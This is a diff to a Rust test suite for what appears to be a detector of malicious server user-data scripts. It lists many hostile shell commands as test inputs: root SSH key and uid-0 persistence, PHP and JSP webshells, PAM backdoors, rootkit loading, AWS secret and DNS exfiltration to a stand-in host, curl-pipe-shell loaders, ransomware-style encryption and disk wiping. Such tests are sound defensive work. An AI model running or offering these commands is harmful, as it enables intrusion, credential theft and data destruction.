@@ -202,7 +202,7 @@ const SHELL: &[Row] = &[
     ("per-02", &["crontab -r", "rm -rf /var/spool/cron/*"], &["crontab -l", "rm -rf /var/spool/mail/x"]),
     ("per-03", &["echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "curl https://a.example/k >> /home/u/.ssh/authorized_keys", "curl -o ~/.ssh/authorized_keys https://a.example/k", "wget -qO- https://a.example/k | tee -a /home/u/.ssh/authorized_keys"],
         &["echo ssh-rsa AAAA >> /home/u/.ssh/authorized_keys", "chmod 600 /root/.ssh/authorized_keys", "cat /root/.ssh/authorized_keys", "rm /root/.ssh/authorized_keys"]),
-    ("per-04", &["useradd -o -u 0 x", "echo 'u ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/u", "echo root:pw | chpasswd", "echo 'x::0:0::/root:/bin/sh' >> /etc/passwd", "sed -i 's/.*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config", "echo pw | passwd --stdin root"],
+    ("per-04", &["echo 'u ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/u", "echo root:pw | chpasswd", "sed -i 's/.*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config", "echo pw | passwd --stdin root"],
         &["useradd -m u", "useradd -u 1001 u", "echo u:pw | chpasswd", "sed -i 's/PermitRootLogin yes/PermitRootLogin no/' /etc/ssh/sshd_config2", "usermod -aG docker u"]),
     ("per-05", &["cat > /etc/systemd/system/x.service <<E\n[Service]\nExecStart=/tmp/x\nE", "echo '/var/lib/.x/y &' >> /etc/rc.local", "echo 'curl https://a.example/x | sh' > /etc/profile.d/x.sh", "echo /dev/shm/x >> /root/.bashrc"],
         &["cat > /etc/systemd/system/x.service <<E\n[Service]\nExecStart=/opt/x\nE", "echo 'export A=/tmp/x' >> /etc/profile.d/x.sh", "echo '. ~/.nvm/nvm.sh' >> ~/.bashrc"]),
@@ -214,22 +214,44 @@ const SHELL: &[Row] = &[
         &["curl -X POST -d '{\"a\":1}' https://a.example/", "curl -T x https://b.s3.amazonaws.com/x", "curl -d @x http://10.0.0.1/", "curl -d @x https://hooks.slack.com/y", "curl -F f=@x https://get.corp.example/"]),
     ("dec-01", &["c''url x", "w\"ge\"t x", "c\\url x", "a=cu; b=rl; $a$b x", "$(printf '\\x63url') x", "/usr/bin/c?rl x", "{curl,-s,x}", "curl${IFS}x", "ba''sh x"],
         &["\\curl x", "'curl' x", "\"$CURL\" x", "C=curl; $C x", "$(command -v curl) x", "\"$d\"/curl x", "curl \"a\"b'c'", "mkdir {a,b}", "echo \"a\"$b"]),
+    ("per-06", &["install -m 4755 /bin/dash /usr/bin/x", "chmod u+s /usr/bin/python3.11", "setcap cap_setuid+ep /usr/bin/perl", "cat /bin/sh > /opt/x; chmod +s /opt/x", "curl -o /opt/x https://a.example/x; chmod 6755 /opt/x", "cd /opt; cp /bin/zsh z; mv z /usr/sbin/q; chmod 4711 /usr/sbin/q"],
+        &["chmod u+s /usr/bin/newuidmap", "setcap cap_net_bind_service=+ep /usr/bin/node", "chmod 1777 /tmp", "cp /bin/bash /mnt/chroot/bin/bash", "chmod g+s /srv/shared", "find / -perm -4000 -type f"]),
+    ("per-07", &["curl -o /var/www/html/a.php https://a.example/c99.php", "cat > /srv/www/x.jsp <<'E'\n<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\nE", "sed -i '1i <?php @eval($_POST[1]);?>' /var/www/html/index.php", "printf '<?php eval(base64_decode(\"aGk=\"));' | tee /var/www/html/z.php"],
+        &["echo '<?php echo $_GET[\"name\"]; ?>' > /var/www/html/hello.php", "cp -r /opt/site /var/www/html", "curl -o /var/www/html/logo.png https://a.example/logo.png"]),
+    ("per-08", &["echo 'auth sufficient pam_permit.so' >> /etc/pam.d/sshd", "gcc -shared -o /lib64/security/pam_unix.so x.c", "install x/pam_unix.so /usr/lib/x86_64-linux-gnu/security/", "sed -i 's/pam_deny.so/pam_permit.so/' /etc/pam.d/common-auth", "sed -i '1i auth optional pam_exec.so expose_authtok /usr/local/bin/l' /etc/pam.d/sshd"],
+        &["echo 'auth required pam_google_authenticator.so' >> /etc/pam.d/sshd", "sed -i 's/# minlen = 8/minlen = 14/' /etc/security/pwquality.conf", "sed -i 's/^auth.*pam_faillock.so/& deny=5/' /etc/pam.d/system-auth"]),
+    ("per-09", &["insmod /tmp/d.ko", "cd /opt; git clone https://a.example/diamorphine; make; insmod diamorphine.ko", "insmod /usr/lib/.x/y.ko"], &["modprobe ena", "insmod /lib/modules/5.10/extra/x.ko", "rmmod nouveau", "dkms install nvidia/550"]),
+    ("per-10", &["usermod -o -u 0 x", "echo 'x::0:0::/root:/bin/sh' >> /etc/passwd", "adduser --uid 0 --non-unique x", "sed -i 's/svc:x:1001/svc:x:0:/' /etc/passwd"], &["useradd -u 1500 x", "groupadd -g 0 x2", "sed -i 's#/bin/sh#/bin/bash#' /etc/passwd", "grep :0: /etc/passwd"]),
+    ("def-07", &["printf 'ps.real|grep -v x' > /usr/bin/ps", "curl -o /usr/bin/netstat https://a.example/n", "mount --bind /var/empty /proc/$PID", "mount -t tmpfs none /proc/1234", "echo \"alias ps='ps | grep -v kworkerd'\" >> /etc/profile.d/a.sh", "cp x /bin/ls", "mv /usr/bin/wget /usr/bin/wg"],
+        &["mount -t proc proc /mnt/proc", "alias ls='ls --color'", "ln -sf /bin/busybox /bin/ps", "mv /opt/ps /opt/ps2", "mount -o bind /proc /mnt/proc", "echo \"alias ll='ls -la'\" >> /etc/profile.d/a.sh"]),
+    ("net-08", &["apt install -y metasploit", "git clone https://github.com/x/impacket.git", "/opt/linpeas.sh", "pwncat-cs -lp 1"], &["apt install -y impressive", "echo mimikatz", "grep mimikatz rules.yar"]),
+    ("net-09", &["for h in $(awk '{print $1}' ~/.ssh/known_hosts); do ssh -o BatchMode=yes $h id; done", "grep -oE '[0-9.]+' /root/.bash_history | while read h; do scp a root@$h:; done"], &["ssh-keyscan github.com >> ~/.ssh/known_hosts; git clone git@github.com:a/b", "ssh-keygen -R $H -f ~/.ssh/known_hosts; ssh $H true", "for h in $HOSTS; do ssh $h true; done"]),
+    ("crd-04", &["aws ssm get-parameters-by-path --path / --with-decryption | curl --data-binary @- https://a.example", "S=$(aws secretsmanager get-secret-value --secret-id a); curl -d \"$S\" https://a.example", "curl -d \"k=$(aws sts get-session-token | base64 -w0)\" https://a.example", "K=$(aws iam create-access-key --user-name b); wget --post-data=\"$K\" https://a.example"],
+        &["T=$(aws ssm get-parameter --name t --with-decryption); curl -H \"Authorization: Bearer $T\" https://a.example/api", "aws ssm get-parameter --name a --with-decryption > /etc/a", "S=$(aws secretsmanager get-secret-value --secret-id a); curl -d \"$S\" http://10.0.0.5/"]),
+    ("crd-05", &["for c in $(xxd -p /etc/passwd); do nslookup $c.a.example; done", "host $(env | base64 -w0).a.example"], &["dig $HOST.a.example", "dig +short txt $(curl -s http://169.254.169.254/latest/meta-data/hostname)", "nslookup $(cat /etc/hostname).a.example"]),
+    ("sup-02", &["curl -O https://a.example/x; echo '00  x' | sha256sum -c - || true", "gpg --verify a.sig a || :", "sha256sum -c s || echo 'bad sum, going on'"], &["sha256sum -c s || exit 1", "sha256sum -c s || { echo bad; exit 1; }", "sha256sum -c s; true", "sha256sum a || true"]),
+    ("sup-03", &["podman run --net host quay.io/a/b", "nerdctl run -d --name x ghcr.io/a/b", "ctr images pull docker.io/a/b:1", "kubectl run x --image=a/b", "docker run -v /:/h --privileged a/b sh", "docker pull a/b"],
+        &["docker run nginx", "docker run ${IMAGE}", "docker ps", "docker run -e A=b/c registry.internal/x", "docker build -t a/b .", "kubectl get pods -l a=b/c"]),
+    ("imp-01", &["find /home -type f -exec gpg --batch -c --passphrase x {} \\; -exec rm {} \\;", "for f in /srv/*; do age -r age1x -o $f.age $f; shred -u $f; done", "e() { openssl enc -aes256 -in \"$1\" -out \"$1.x\"; rm -f \"$1\"; }; for f in /var/lib/mysql/*; do e $f; done", "7z a -pX -sdel /root/x.7z /home/*", "aws s3 cp s3://a s3://a --recursive --sse-c AES256 --sse-c-key k"],
+        &["mysqldump a | gpg -e -r b > /backup/a.gpg", "for f in /var/backups/*.sql; do gpg -e -r b $f && rm $f; done", "openssl enc -d -aes-256-cbc -in /home/a.enc -out /home/a; rm /home/a.enc", "find /home -name '*.tmp' -exec rm {} ;"]),
+    ("imp-02", &["dd if=/dev/urandom of=/dev/xvda bs=1M", "for d in /dev/sd*; do wipefs -a $d; done", "rm -rf /*", "cat /dev/zero > /dev/sda", "rm -rf --no-preserve-root /", "find / -type f -delete", "D=$(findmnt -n -o SOURCE /); dd if=/dev/zero of=$D"],
+        &["wipefs -a /dev/nvme1n1", "dd if=/dev/zero of=/swapfile bs=1M count=2048", "mkfs.xfs /dev/xvdf", "dd if=/dev/zero of=/dev/xvdb bs=1M count=100", "rm -rf /var/cache/*", "for d in $(lsblk -dno NAME | grep nvme); do mkfs.xfs /dev/$d; done", "rm -rf /home/ubuntu/*"]),
+    ("imp-03", &["aws backup delete-backup-vault --backup-vault-name a", "aws ec2 delete-snapshot --snapshot-id a", "rm -rf /var/backups"], &["find /var/backups -mtime +7 -delete", "aws ec2 create-snapshot --volume-id a", "rm -f /var/backups/old.tgz"]),
+    ("imp-04", &["for b in $(aws s3 ls | awk '{print $3}'); do aws s3 rm s3://$b --recursive; done", "aws rds delete-db-instance --db-instance-identifier a --skip-final-snapshot", "aws s3 rm s3://corp --recursive"], &["aws s3 rm s3://corp/tmp/x --recursive", "aws s3 sync /a s3://corp --delete", "aws rds describe-db-instances"]),
+    ("imp-05", &["cat > /etc/motd <<E\nYour files are encrypted.\nSend 1 BTC to x.\nE"], &["echo 'All payloads are encrypted.' > /etc/motd", "echo 'Pay attention: locked down host' > /opt/x.conf"]),
     ("sup-01", &["echo 'deb [trusted=yes] http://a.example/ ./' > /etc/apt/sources.list.d/x.list", "cat > /etc/yum.repos.d/x.repo <<E\n[x]\nbaseurl=http://a.example/\ngpgcheck=0\nE", "yum install -y --nogpgcheck https://a.example/x.rpm", "curl -o /usr/local/share/ca-certificates/x.crt https://a.example/x; update-ca-certificates"],
         &["echo 'deb [signed-by=/k] https://a.example/ ./' > /etc/apt/sources.list.d/x.list", "cat > /etc/yum.repos.d/x.repo <<E\n[x]\nbaseurl=http://repo.corp.internal/\ngpgcheck=0\nE", "cat > /etc/yum.repos.d/x.repo <<E\n[x]\nbaseurl=https://a.example/\ngpgcheck=1\nE", "update-ca-certificates"]),
 ];
 
 #[test]
 fn every_shell_signal_fires_and_keeps_still() {
+    let mut wrong = Vec::new();
     for (id, fires, keeps_still) in SHELL {
-        for text in *fires {
-            let judgement = judged(text);
-            assert!(ids(&judgement).contains(id), "{id} not in {text}: {judgement:?}");
-        }
-        for text in *keeps_still {
-            let judgement = judged(text);
-            assert!(!ids(&judgement).contains(id), "{id} in {text}: {judgement:?}");
-        }
+        let raises = |text: &&&str| ids(&judged(text)).contains(id);
+        wrong.extend(fires.iter().filter(|text| !raises(text)).map(|text| format!("{id} not in {text}")));
+        wrong.extend(keeps_still.iter().filter(raises).map(|text| format!("{id} in {text}")));
     }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
 
 #[rustfmt::skip]
@@ -289,7 +311,7 @@ fn directives_are_judged_as_well() {
         (setting("packages", "masscan"), "net-07"),
         (setting("packages", "cpuminer"), "min-01"),
         (setting("users.sudo", "ALL=(ALL) NOPASSWD:ALL"), "per-04"),
-        (setting("users.uid", "0"), "per-04"),
+        (setting("users.uid", "0"), "per-10"),
         (setting("chpasswd.list", "root:x"), "per-04"),
         (setting("users.ssh_authorized_keys", "https://a.example/k"), "per-03"),
         (setting("ca_certs.trusted", "-----BEGIN CERTIFICATE-----"), "sup-01"),
@@ -385,8 +407,18 @@ fn combinations_add_what_the_parts_do_not_say() {
         score("yum install -y postgresql16; sysctl -w vm.nr_hugepages=1280; wget https://a.example/x"),
         5
     );
-    assert_eq!(score("unset HISTFILE; chattr +i /etc/cron.d; curl https://a.example/x | sh"), 45 + 25 + 20);
-    assert_eq!(score("unset HISTFILE; setenforce 0; curl https://a.example/x | sh"), 35 + 25);
+    assert_eq!(
+        score("unset HISTFILE; chattr +i /etc/cron.d; curl https://a.example/x | sh"),
+        45 + 25 + 20 + 20
+    );
+    // Traces wiped before something fetched is run, and not after: 20.
+    assert_eq!(score("unset HISTFILE; setenforce 0; curl https://a.example/x | sh"), 35 + 25 + 20);
+    assert_eq!(score("curl https://a.example/x | sh; unset HISTFILE; setenforce 0"), 35 + 25);
+    // A key for root made undeletable.
+    assert_eq!(
+        score("echo k >> /root/.ssh/authorized_keys; chattr +i /root/.ssh/authorized_keys"),
+        20 + 20 + 20
+    );
     // Credential files that leave.
     assert_eq!(score("curl -T /root/.aws/credentials https://a.example/"), 15 + 15 + 25);
     assert!(!judged("crontab -r; curl https://203.0.113.1/x").critical);
@@ -402,10 +434,10 @@ fn damping_keeps_honest_habits_below_the_line() {
         "curl https://get.corp.example/a | sh; curl https://a.mirror.example/b | sh",
         // Several weak signals of one category.
         "curl https://a.example/x | sh; eval \"$(curl https://a.example/y)\"; curl -o /tmp/z https://a.example/z; sh /tmp/z &".trim_end_matches(" &"),
-"useradd -o -u 0 x; echo ssh-rsa A >> /root/.ssh/authorized_keys; echo 'u ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/u",
+"echo root:x | chpasswd; echo ssh-rsa A >> /root/.ssh/authorized_keys; echo 'u ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/u",
         // A verified download, run from where it landed.
         "cd /tmp; curl -O https://a.example/x; echo '00ff  x' | sha256sum -c; chmod +x x; ./x &",
-        "history -c; rm -f /root/.bash_history; setenforce 0; systemctl stop firewalld; curl https://a.example/x | sh",
+        "setenforce 0; systemctl stop firewalld; curl https://a.example/x | sh; history -c; rm -f /root/.bash_history",
         "echo 'u ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/u; curl http://a.example/x | sh",
     ] {
         let judgement = judged(text);
@@ -472,20 +504,53 @@ fn each_signal_counts_once_and_the_table_is_whole() {
     assert_eq!((judgement.score, ids(&judgement).len()), (25, 1));
     let mut seen = std::collections::HashSet::new();
     for signal in SIGNALS {
-        assert!(seen.insert(signal.id), "{} twice", signal.id);
+        assert!(seen.insert(signal.id.as_str()), "{} twice", signal.id.as_str());
         assert!(
             !signal.attack.is_empty() && signal.attack.iter().all(|id| id.starts_with('T')),
             "{}",
-            signal.id
+            signal.id.as_str()
         );
-        assert!(!signal.title.is_empty() && signal.why.ends_with('.'), "{}", signal.id);
+        assert!(!signal.title.is_empty() && signal.why.ends_with('.'), "{}", signal.id.as_str());
     }
-    // Every signal has an example, here or among the directives.
+}
+
+/// An example of the table as user data.
+fn inspected(example: &str) -> crate::user_data::Inspection {
+    let plain = !example.starts_with(['#', '<']) && !example.starts_with("Content-");
+    let text = if plain { format!("#!/bin/sh\n{example}\n") } else { example.to_owned() };
+    crate::user_data::inspect(text.as_bytes(), &Trust::default(), false)
+}
+
+#[test]
+fn every_example_of_the_documentation_is_true() {
+    let mut wrong = Vec::new();
     for signal in SIGNALS {
-        let elsewhere = ["exe-07", "dec-02", "dec-03", "dec-04", "dec-05", "dec-06"].contains(&signal.id);
-        let here = SHELL.iter().chain(WINDOWS).any(|(id, ..)| *id == signal.id);
-        assert!(elsewhere || here, "{} has no example", signal.id);
+        let raised = |example: &str| {
+            inspected(example).findings.iter().any(|finding| finding.id == signal.id.as_str())
+        };
+        // What passes a bound is too long to be shown; it has tests of its own.
+        if signal.fires.is_empty() != matches!(signal.id, Id::Dec03 | Id::Dec05) {
+            wrong.push(format!("{} has no example", signal.id.as_str()));
+        }
+        if !signal.fires.is_empty() && !raised(signal.fires) {
+            wrong.push(format!("{} is not raised by: {}", signal.id.as_str(), signal.fires));
+        }
+        if raised(signal.quiet) {
+            wrong.push(format!("{} is raised by: {}", signal.id.as_str(), signal.quiet));
+        }
     }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+/// To write the page anew: `UPDATE_DOCS=1 cargo test --lib documentation_page`.
+#[test]
+fn the_documentation_page_is_what_the_table_writes() {
+    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/docs/user-data-signals.md");
+    if std::env::var_os("UPDATE_DOCS").is_some() {
+        std::fs::write(path, table::page()).unwrap();
+    }
+    let page = std::fs::read_to_string(path).unwrap_or_default();
+    assert!(page == table::page(), "docs/user-data-signals.md is not what the table writes");
 }
 
 #[test]
